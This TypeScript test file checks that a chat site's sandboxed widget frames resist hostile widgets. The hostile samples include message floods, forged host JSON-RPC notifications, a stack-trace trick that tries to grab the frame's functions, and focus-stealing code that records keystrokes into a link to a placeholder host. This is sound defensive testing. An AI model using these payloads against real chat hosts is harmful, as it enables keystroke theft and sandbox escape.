// budget: 25 s: every attack is tried in two browsers
import assert from "node:assert/strict";
import { attackingWidget, ATTACKS } from "../attacks.ts";
import {
  type BrowserPage,
  paintTwice,
  testFirefoxInSoak,
  testInChromium,
  testInEachBrowser,
  testInSoak,
  waitFor,
} from "../each_browser.ts";
import { whileNothingMay } from "../../../waiting/mod.ts";
import { FRESH_GLOBALS } from "../fresh_globals.ts";
import { navigatingWidget, NAVIGATIONS, NAVIGATIONS_IN_EACH_RUN } from "../navigations.ts";
import { ChatSite, findCards, findView, readCards, readRecord, readShown, VIEW_POLICY } from "./chat_site.ts";

let site: ChatSite;
Deno.test.beforeAll(async () => void (site = await ChatSite.open()));
Deno.test.afterAll(() => site.close());

/** Shows a widget that attacks, in a chat. Returns which attacks succeeded. */
async function attack(page: BrowserPage, attacks: { readonly [name: string]: string }): Promise<unknown> {
  const { origin, elsewhere } = site.sealed;
  site.sealed.received.length = 0;
  const { batch } = await site.addPage([{ module: attackingWidget(origin, elsewhere, [], attacks) }]);
  await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
  const cards = await findCards(page, 1);
  const results = await waitFor(() =>
    cards.evaluate(() =>
      document.querySelector("article")?.shadowRoot?.querySelector("[data-results]")?.textContent ?? null
    )
  );
  return JSON.parse(results);
}

/** A chat decides which features of the browser its frames have. */
const FEATURES = "features of the browser that nobody needs";

// claim: chat-no-requests
testInEachBrowser(
  "a widget in a chat stores nothing, sends nothing and opens nothing",
  () => site.sealed,
  async (page) => {
    const { [FEATURES]: _, ...attacks } = ATTACKS;
    assert.deepEqual(await attack(page, attacks), []);
    assert.deepEqual(site.sealed.received, []);
  },
);

// claim: chat-no-requests
testFirefoxInSoak(
  "a widget in a chat gets no window with the globals that its own has lost",
  () => site.sealed,
  async (page) => {
    assert.deepEqual(await attack(page, FRESH_GLOBALS), []);
  },
);

/** A text that the view says in place of the cards. */
async function waitForText(page: BrowserPage, text: string): Promise<void> {
  const view = await findView(page);
  await waitFor(() => view.evaluate((text) => document.body.innerText.includes(text) || null, text));
}

const LOST = "A card has stopped the view.";

/** A widget that shows a text, and does something before. */
const doing = (text: string, code = "") => `
  import { createElement as h } from "react";
  ${code}
  export default () => h("p", null, ${JSON.stringify(text)});`;

// claim: chat-no-navigation
testInChromium(
  "a widget that navigates its frame sends nothing, also where the chat sets no policy",
  () => site.sealed,
  (page) => expectNothingSent(page, NAVIGATIONS_IN_EACH_RUN),
);

testInSoak(
  "a widget that navigates its frame by any way sends nothing, also where the chat sets no policy",
  () => site.sealed,
  (page) => expectNothingSent(page, Object.keys(NAVIGATIONS)),
);

/** Asserts that a widget in a chat without a policy sends nothing by some ways to navigate. */
async function expectNothingSent(page: BrowserPage, ways: readonly string[]): Promise<void> {
  const { elsewhere, received } = site.sealed;
  received.length = 0;
  site.viewPolicy = null;
  try {
    for (const name of ways) {
      const body = `${NAVIGATIONS[name]} parent.parent.parent.postMessage("left", "*");`;
      const { batch } = await site.addPage([{ module: navigatingWidget(body, elsewhere) }]);
      await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
      await page.evaluate(() =>
        new Promise<void>((resolve) => {
          addEventListener("message", ({ data }) => data === "left" && resolve());
          setTimeout(resolve, 1_000); // timer: a browser may have stopped the card before it could say so
        })
      );
      // What a browser sends, it sends before it answers a request of the same page that is made later.
      await page.evaluate(() => fetch("/later").then((response) => response.text()));
      assert.deepEqual(received, [], name);
    }
  } finally {
    site.viewPolicy = VIEW_POLICY;
  }
}

// claim: chat-lost-frame
testFirefoxInSoak(
  "a view says so when the document of its cards is replaced, and shows the next result",
  () => site.sealed,
  async (page) => {
    const { batch } = await site.addPage([{ module: doing("here") }]);
    const input = { batch, widget: "weather" };
    await site.show(page, { tool: "show_card", input });
    await findCards(page, 1);
    const view = await findView(page);
    await view.evaluate(() => void (document.querySelector("iframe")!.srcdoc = "gone"));
    await waitForText(page, LOST);
    assert.equal(await view.evaluate(() => document.querySelector("iframe")), null);
    await page.evaluate(async (input) => await chatHost.call("show_card", input), input);
    assert.deepEqual(await readCards(await findCards(page, 1)), ["here"]);
  },
);

// claim: chat-lost-frame
testFirefoxInSoak(
  "a view whose card floods it with messages removes the card, and says so",
  () => site.sealed,
  async (page) => {
    const flood = `setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage({ n }, "*"); });`;
    const { batch } = await site.addPage([{ module: doing("here", flood) }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    await waitForText(page, LOST);
  },
);

// claim: chat-view-untrusting
testFirefoxInSoak(
  "a card cannot speak to the view as the host, nor as the code of its frame",
  () => site.sealed,
  async (page) => {
    const forge = `
      const notify = (method, params) => parent.postMessage({ jsonrpc: "2.0", method, params }, "*");
      notify("ui/notifications/tool-result", { content: [{ type: "text", text: "forged" }] });
      notify("ui/notifications/tool-cancelled", {});
      notify("ui/notifications/host-context-changed", { theme: "dark" });
      parent.postMessage({ jsonrpc: "2.0", id: 9, method: "ui/resource-teardown" }, "*");
      for (const type of ["resize", "open", "shown"]) {
        parent.postMessage({ type, height: 9999, href: "https://example.com/?data", failed: 0 }, "*");
      }
      parent.postMessage("tck:chat-cards", "*");`;
    const { batch } = await site.addPage([{ module: doing("here", forge) }]);
    const input = { batch, widget: "weather" };
    await site.show(page, { tool: "show_card", input, context: { theme: "light" } });
    assert.deepEqual(await readCards(await findCards(page, 1)), ["here"]);
    // Messages arrive in order: by the answer to this one, those of the card have arrived.
    await page.evaluate(async (input) => await chatHost.call("show_card", input), input);
    assert.deepEqual(await readShown(page, 1), ["here"]);
    const view = await findView(page);
    const shown = await view.evaluate(() => [
      document.documentElement.dataset["theme"],
      document.querySelector("iframe")!.offsetHeight < 9999,
      document.querySelector<HTMLElement>("[role=status]")!.innerText.includes("forged"),
    ]);
    assert.deepEqual(shown, ["light", true, false]);
    assert.deepEqual((await readRecord(page)).links, []);
  },
);

// claim: chat-frame-sealed
testFirefoxInSoak(
  "an error in the frame's own code gives a card neither its functions nor a link that opens",
  () => site.sealed,
  async (page) => {
    const module = doing(
      "here",
      `
      const found = new Set();
      Error.prepareStackTrace = (error, sites) => {
        for (const site of sites) if (typeof site.getFunction() === "function") found.add(site.getFunction());
        return "";
      };
      globalThis.given = [];
      const { ceil } = Math;
      addEventListener("error", ({ error }) => {
        void error?.stack;
        for (const one of found) {
          given.push(String(one));
          try { one({ type: "open", href: "https://elsewhere.invalid/?read", isChosen: true }); } catch {}
        }
        Math.ceil = ceil;
      });
      // A port cannot copy it.
      Math.ceil = () => () => {};`,
    );
    const { batch } = await site.addPage([{ module }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    const cards = await findCards(page, 1);
    await whileNothingMay("ask the chat to open a link", 500);
    assert.deepEqual(await cards.evaluate(() => Reflect.get(globalThis, "given")), []);
    assert.deepEqual((await readRecord(page)).links, []);
  },
);

// claim: chat-frame-sealed
testFirefoxInSoak(
  "a view has the chat asked to open a link only after a click or key of the reader, whatever its frame says",
  () => site.sealed,
  async (page) => {
    const { batch } = await site.addPage([{ module: doing("here") }]);
    site.cardsDocument = `<!doctype html><script>
      addEventListener("message", ({ ports: [port] }) => {
        port.postMessage({ type: "press" });
        port.postMessage({ type: "open", href: "https://elsewhere.invalid/?at-once", isChosen: true });
        port.postMessage({ type: "shown", failed: 0 });
        port.postMessage({ type: "resize", height: 100 });
        addEventListener("click", () => {
          port.postMessage({ type: "press" });
          port.postMessage({ type: "open", href: "https://elsewhere.invalid/?clicked", isChosen: true });
        });
      });
      parent.postMessage("tck:chat-cards", "*");
    </script>`;
    try {
      await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
      const view = await findView(page);
      await waitFor(() =>
        view.evaluate(() => document.querySelector("iframe")?.offsetHeight === 100 || null)
      );
      assert.deepEqual((await readRecord(page)).links, []);
      await page.evaluate(paintTwice);
      await page.mouse.click(40, 40);
      const links = await waitFor(async () => {
        const { links } = await readRecord(page);
        return links.length > 0 ? links : null;
      });
      assert.deepEqual(links, ["https://elsewhere.invalid/?clicked"]);
    } finally {
      site.cardsDocument = null;
    }
  },
);

/** A widget that takes the focus, and has what is typed then in the address of a link that the next Enter activates. */
const takingWidget = (take: string) => `
  import { createElement as h, useEffect } from "react";
  export default function Taking() {
    useEffect(() => {
      const link = document.createElement("a");
      const inner = document.createElement("iframe");
      link.textContent = "link";
      document.body.append(inner, link);
      let typed = "";
      const noted = () => void (link.href = "https://elsewhere.invalid/?typed=" + encodeURIComponent(typed));
      noted();
      addEventListener("keydown", ({ key }) => {
        typed += key;
        noted();
        link.focus();
      }, true);
      const work = (ms) => {
        const end = performance.now() + ms;
        while (performance.now() < end);
      };
      ${take}
    }, []);
    return h("p", { style: { minHeight: 100 } }, "a text");
  }`;

/** What takes the focus from a reader who writes in the chat. */
const TAKES = {
  // The keys are in a frame within at first, of whose focus the frame around it knows nothing.
  "by a frame within its own": `
    let count = 0;
    setInterval(() => {
      if (count++ % 10 < 5) inner.contentWindow.focus();
      else link.focus();
    }, 100);`,
  "again and again": `
    document.body.tabIndex = 0;
    setInterval(() => {
      window.focus();
      link.focus();
    }, 50);`,
  "and works until keys wait for it": `
    setInterval(() => {
      if (document.hasFocus()) return;
      window.focus();
      work(400);
    }, 400);`,
};

/** Lets a reader write in a field of the chat, with an Enter after each few letters, until the view says that its cards are gone. */
async function writeUntilLost(page: BrowserPage): Promise<void> {
  const view = await findView(page);
  await page.evaluate(() => {
    const field = document.createElement("textarea");
    document.body.prepend(field);
    field.focus();
  });
  await waitFor(async () => {
    // Chromium does not say that a key has arrived whose frame is removed meanwhile.
    for (let key = 0; key < 10; key++) page.keyboard.press(key % 5 === 4 ? "Enter" : "s").catch(() => {});
    return await view.evaluate((text) => document.body.innerText.includes(text) || null, LOST);
  });
}

for (const [how, take] of Object.entries(TAKES)) {
  const test = how === "by a frame within its own" ? testFirefoxInSoak : testInSoak;
  // claim: chat-focus
  test(
    `a card that takes the focus ${how} while the reader writes to the chat opens nothing, and is removed`,
    () => site.sealed,
    async (page) => {
      const { batch } = await site.addPage([{ module: takingWidget(take) }]);
      await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
      await findCards(page, 1);
      await writeUntilLost(page);
      assert.deepEqual((await readRecord(page)).links, []);
    },
  );
}

/** Whether the focus is in a link of the cards. */
const isInLink = () => {
  const { activeElement } = document;
  return document.hasFocus() &&
    (activeElement?.shadowRoot?.activeElement ?? activeElement)?.localName === "a";
};

// claim: chat-focus
testFirefoxInSoak(
  "a reader comes to a link of a card by the Tab key, and opens it by Enter",
  () => site.sealed,
  async (page) => {
    const module = `
      import { createElement as h } from "react";
      export default () => h("a", { href: "https://elsewhere.invalid/?card" }, "link");`;
    const { batch } = await site.addPage([{ module }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    const cards = await findCards(page, 1);
    await page.evaluate(() => {
      const field = document.createElement("textarea");
      document.body.prepend(field);
      field.focus();
    });
    await waitFor(async () => {
      await page.keyboard.down("Tab");
      await cards.evaluate(paintTwice);
      const isThere = await cards.evaluate(isInLink);
      await page.keyboard.up("Tab");
      return isThere || null;
    });
    await page.keyboard.press("Enter");
    const { links } = await waitFor(async () => {
      const record = await readRecord(page);
      return record.links.length > 0 ? record : null;
    });
    assert.deepEqual(links, ["https://elsewhere.invalid/?card"]);
  },
);

testInSoak(
  "a reader who presses a field of a card writes in it",
  () => site.sealed,
  async (page) => {
    const module = `
      import { createElement as h } from "react";
      export default () => h("textarea", { style: { inlineSize: "100%", blockSize: 200 } });`;
    const { batch } = await site.addPage([{ module }]);
    await site.show(page, { tool: "show_card", input: { batch, widget: "weather" } });
    const cards = await findCards(page, 1);
    const view = await findView(page);
    await waitFor(() => view.evaluate(() => document.querySelector("iframe")!.offsetHeight > 200 || null));
    for (const each of [view, cards]) await each.evaluate(paintTwice);
    await page.mouse.click(100, 100);
    await whileNothingMay("take the focus from the card", 500);
    await page.keyboard.press("s");
    const written = await waitFor(() =>
      cards.evaluate(() =>
        document.querySelector("article")!.shadowRoot!.querySelector("textarea")!.value || null
      )
    );
    assert.equal(written, "s");
  },
);
